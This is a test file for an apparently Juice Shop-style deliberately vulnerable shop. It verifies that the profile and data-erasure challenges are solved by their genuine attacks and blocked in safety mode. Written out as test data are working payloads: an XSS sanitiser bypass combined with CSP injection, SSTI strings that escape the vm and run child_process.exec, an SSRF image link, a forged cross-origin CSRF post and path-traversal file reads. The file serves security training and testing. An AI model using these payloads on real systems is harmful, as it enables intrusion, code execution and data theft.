import { readFileSync } from 'node:fs';
import { afterEach, describe, expect, test } from 'vitest';
import { eventually, startShop, type TestServer } from '../helpers';
import { formPost, pictureOf, profileHtml, statusOf, tokenFor, withToken } from './profile-helpers';

/** The profile and data erasure challenges, each solved by its genuine attack on a fresh shop. */

const SSKEY = 'tRy_H4rd3r_n0thIng_iS_Imp0ssibl3';
const SCRIPT = '<script>alert(`xss`)</script>';
const USERNAME_BYPASS = '<<a|ascript>alert(`xss`)</script>';
const CSP_IMAGE_URL = "https://a.png; script-src 'unsafe-inline' 'self' 'unsafe-eval'";

let s: TestServer;
afterEach(async () => s?.close());

async function shopWithAdmin(options: Parameters<typeof startShop>[0] = {}) {
  s = await startShop(options);
  return tokenFor(s, 'admin@juice-sh.op', 'admin123');
}
const solved = (key: string) => s.shop.challenges.isSolved(key);
const setUsername = async (token: string, username: string) =>
  expect(await statusOf(s.get('/profile', formPost(token, { username })))).toBe(302);
const linkImage = async (token: string, imageUrl: string) =>
  expect(await statusOf(s.get('/profile/image/url', formPost(token, { imageUrl })))).toBe(302);

describe('usernameXssChallenge (CSP Bypass)', () => {
  test('a CSP widened through the picture link plus the sanitiser bypass puts a running script on the page', async () => {
    const admin = await shopWithAdmin();
    await setUsername(admin, USERNAME_BYPASS);
    let html = await profileHtml(s, admin);
    expect(html).toContain(SCRIPT); // the script is there, but the policy still forbids inline scripts
    expect(solved('usernameXssChallenge')).toBe(false);

    await linkImage(admin, CSP_IMAGE_URL); // no such host: the link is kept verbatim and lands in the policy
    const res = await s.get('/profile', withToken(admin));
    const policy = res.headers.get('content-security-policy')!;
    expect(policy).toContain("script-src 'unsafe-inline'");
    expect(policy.indexOf("'unsafe-inline'")).toBeLessThan(policy.indexOf("script-src 'self' 'unsafe-eval'")); // the first script-src wins
    html = await res.text();
    expect(html).toContain(`<p class="username" id="shownUsername">${SCRIPT}</p>`);
    expect(pictureOf(html)).toBe(CSP_IMAGE_URL.replace(/'/g, '&#39;'));
    expect(solved('usernameXssChallenge')).toBe(true);
  });

  test('with safety mode on, tags are stripped, the name is escaped and nothing is solved', async () => {
    const admin = await shopWithAdmin({ configOverrides: { challenges: { safetyMode: 'enabled' } } });
    await linkImage(admin, CSP_IMAGE_URL);
    await setUsername(admin, USERNAME_BYPASS);
    const html = await profileHtml(s, admin);
    expect(html).not.toContain('<script>');
    await setUsername(admin, '<b>bold</b>');
    expect(await profileHtml(s, admin)).toContain('id="shownUsername">bold</p>');
    expect(solved('usernameXssChallenge')).toBe(false);
  });
});

describe('sstiChallenge (SSTi)', () => {
  test('a #{...} username runs as JavaScript; escaping the vm lets the server call the solve hook', async () => {
    const admin = await shopWithAdmin();
    await setUsername(admin, '#{7*6}');
    expect(await profileHtml(s, admin)).toContain('id="shownUsername">42</p>');
    await setUsername(admin, "#{this.constructor.constructor('return process')().version}");
    expect(await profileHtml(s, admin)).toContain(`id="shownUsername">${process.version}</p>`);
    expect(solved('sstiChallenge')).toBe(false);

    await setUsername(admin, `#{this.constructor.constructor('return fetch')()('${s.url}/solve/challenges/server-side?key=${SSKEY}')}`);
    await profileHtml(s, admin);
    await eventually(() => solved('sstiChallenge'));
    expect(solved('ssrfChallenge')).toBe(false);
  });

  test('the payload players know, global.process.mainModule.require(\'child_process\'), runs the "malware" that calls home', async () => {
    const admin = await shopWithAdmin();
    // the known attack downloads and runs a binary that calls the hook; here a node one-liner plays it
    const malware = `${JSON.stringify(process.execPath)} -e "fetch('${s.url}/solve/challenges/server-side?key=${SSKEY}')"`;
    await setUsername(admin, `#{global.process.mainModule.require('child_process').exec(${JSON.stringify(malware)})}`);
    await profileHtml(s, admin);
    await eventually(() => solved('sstiChallenge'), 10000);
  });

  test('expressions that fail or never end show the name as written and the shop carries on', async () => {
    const admin = await shopWithAdmin();
    for (const username of [
      '#{while(true){}}',
      '#{null.x}',
      '#{({toString(){for(;;);}})}',
      '#{Promise.resolve().then(()=>{for(;;);})}',
      '#{',
    ]) {
      await setUsername(admin, username);
      // the page is answered at all (an endless expression is cut off, not waited for), with the name as written
      const html = await profileHtml(s, admin);
      expect(html, username).toContain('id="shownUsername">#{');
    }
    expect(await statusOf(s.get('/rest/admin/application-version'))).toBe(200);
    // the hook itself is no shortcut: the expression was evaluated, but a wrong key does nothing
    expect(await statusOf(s.get(`/solve/challenges/server-side?key=wrong`))).toBe(404);
    expect(solved('sstiChallenge')).toBe(false);
  });

  test('with safety mode on, nothing is evaluated and the hook solves nothing', async () => {
    const admin = await shopWithAdmin({ configOverrides: { challenges: { safetyMode: 'enabled' } } });
    await setUsername(admin, '#{7*6}');
    expect(await profileHtml(s, admin)).toContain('id="shownUsername">#{7*6}</p>');
    expect(await statusOf(s.get(`/solve/challenges/server-side?key=${SSKEY}`))).toBe(404);
    expect(solved('sstiChallenge')).toBe(false);
  });
});

describe('ssrfChallenge (SSRF)', () => {
  test('the hook alone does nothing; linked as a picture, the server requests it itself and solves SSRF', async () => {
    const admin = await shopWithAdmin();
    expect(await statusOf(s.get(`/solve/challenges/server-side?key=${SSKEY}`))).toBe(404);
    expect(solved('ssrfChallenge')).toBe(false);
    const hook = `${s.url}/solve/challenges/server-side?key=${SSKEY}`;
    await linkImage(admin, hook);
    expect(solved('ssrfChallenge')).toBe(true);
    expect(pictureOf(await profileHtml(s, admin))).toBe(hook.replace(/&/g, '&amp;')); // a 204 is no picture: the link is kept
  });
});

describe('csrfChallenge (CSRF)', () => {
  test('a username change posted from the configured attacker page with the cookie solves CSRF', async () => {
    const admin = await shopWithAdmin();
    // Origin counts first: another Origin is no CSRF from that page, whatever the Referer says
    await statusOf(
      s.get(
        '/profile',
        formPost(admin, { username: 'CSRF' }, { origin: 'http://other.example', referer: 'http://htmledit.squarefree.com/' }),
      ),
    );
    expect(solved('csrfChallenge')).toBe(false);
    // the same username again is no change
    await statusOf(s.get('/profile', formPost(admin, { username: 'CSRF' }, { origin: 'http://htmledit.squarefree.com' })));
    expect(solved('csrfChallenge')).toBe(false);
    expect(await statusOf(s.get('/profile', formPost(admin, { username: 'Hacked' }, { origin: 'http://htmledit.squarefree.com' })))).toBe(
      302,
    );
    expect(solved('csrfChallenge')).toBe(true);
    expect(await profileHtml(s, admin)).toContain('id="shownUsername">Hacked</p>');
  });

  test('without an Origin header the Referer counts', async () => {
    const admin = await shopWithAdmin();
    await statusOf(s.get('/profile', formPost(admin, { username: 'Referred' }, { referer: 'http://htmledit.squarefree.com/' })));
    expect(solved('csrfChallenge')).toBe(true);
  });
});

describe('lfrChallenge (Local File Read)', () => {
  const erasure = (token: string, fields: Record<string, string>) => s.get('/dataerasure', formPost(token, fields));

  test('forbidden and missing files do not solve it', async () => {
    const admin = await shopWithAdmin();
    for (const layout of ['ctf.key', 'encryptionkeys/jwt.pub', '../private/ftp/legal.md', '../FTP/x']) {
      const res = await erasure(admin, { layout });
      expect(res.status, layout).toBe(403);
      expect(await res.text()).toContain('File access not allowed');
    }
    const missing = await erasure(admin, { layout: '../this/file/does/not/exist' });
    expect(missing.status).toBe(500);
    expect(await missing.text()).toContain('no such file or directory');
    expect(await statusOf(erasure(admin, { layout: '..' }))).toBe(400);
    expect(solved('lfrChallenge')).toBe(false);
  });

  test('layout=../package.json renders the file: its first 100 characters and "......"', async () => {
    const admin = await shopWithAdmin();
    const res = await erasure(admin, { layout: '../package.json' });
    expect(res.status).toBe(200);
    expect(await res.text()).toBe(`${readFileSync('package.json', 'utf8').slice(0, 100)}......`);
    expect(res.headers.get('set-cookie')).toMatch(/token=;/);
    expect(solved('lfrChallenge')).toBe(true);
    expect(s.shop.db.prepare('SELECT COUNT(*) AS n FROM PrivacyRequests WHERE UserId = 1').get()).toEqual({ n: 1 });
  });

  test('a JSON body works as well (upstream reads both)', async () => {
    const admin = await shopWithAdmin();
    const res = await s.get(
      '/dataerasure',
      withToken(admin, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ layout: '../package.json' }),
      }),
    );
    expect(res.status).toBe(200);
    expect(await res.text()).toContain('......');
    expect(solved('lfrChallenge')).toBe(true);
  });

  test('with safety mode on, layout is ignored and the normal confirmation check runs', async () => {
    const admin = await shopWithAdmin({ configOverrides: { challenges: { safetyMode: 'enabled' } } });
    const res = await erasure(admin, { layout: '../package.json' });
    expect(res.status).toBe(400);
    expect(await res.text()).not.toContain('"name"');
    expect(solved('lfrChallenge')).toBe(false);
  });
});
